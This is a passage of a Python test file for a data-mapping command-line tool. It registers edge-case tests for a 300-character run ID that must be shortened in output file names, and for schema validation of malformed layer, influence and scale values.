        path.write_text(re.sub(r"\balice\b", "a" * 300, path.read_text(encoding="utf-8")), encoding="utf-8")
    return ["run", "--data", str(data), "--out", str(folder / "out")]


def _short_ego_name(folder: Path, out: str) -> None:
    names = [p.name for p in (folder / "out" / "maps").iterdir()]
    assert any(re.fullmatch(r"ego-a{80}-[0-9a-f]{10}\.html", n) for n in names), names


case("run-id-of-300-characters", Ok(_short_ego_name))(long_id)

# found by Hypothesis: a layer given as an array crashed the schema check (unhashable list)
for name, old, new in (("layer-array", 'layer = "money"', "layer = [1, 2]"), ("influence-table", 'influence = "forward"', "influence = {}"),
                       ("scale-array", 'money_scale = "log"', 'money_scale = ["log"]')):
    case(f"validate-schema-{name}", Error(r"schema\.toml:\d+: "))(
        lambda folder, old=old, new=new: READING_COMMANDS["validate"](with_schema(old, new)(folder)))


import corpus_commands  # noqa: E402,F401  (registers the cases of the other commands and the FEC readers)
import corpus_parquet  # noqa: E402,F401  (registers the Parquet data-folder cases)
